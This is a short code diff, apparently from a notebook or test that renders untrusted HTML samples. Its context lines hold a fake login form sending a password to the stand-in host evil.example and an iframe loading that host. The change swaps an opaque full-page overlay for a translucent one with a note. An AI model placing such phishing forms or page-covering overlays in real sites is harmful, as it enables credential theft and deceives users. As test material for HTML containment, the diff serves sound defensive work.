@@ -15,7 +15,12 @@ display(
 <a href="https://example.org">an honest one</a>
 <form action="https://evil.example"><input name="password"><button>Log in</button></form>
 <iframe src="https://evil.example"></iframe>
-<div style="position: fixed; inset: 0; background: crimson">A cover over the page</div>
+""")
+)
+display(
+    HTML("""
+<p>What follows was meant to cover the whole page.</p>
+<div style="position: fixed; inset: 0; background: #dc143c55"></div>
 """)
 )
 display(
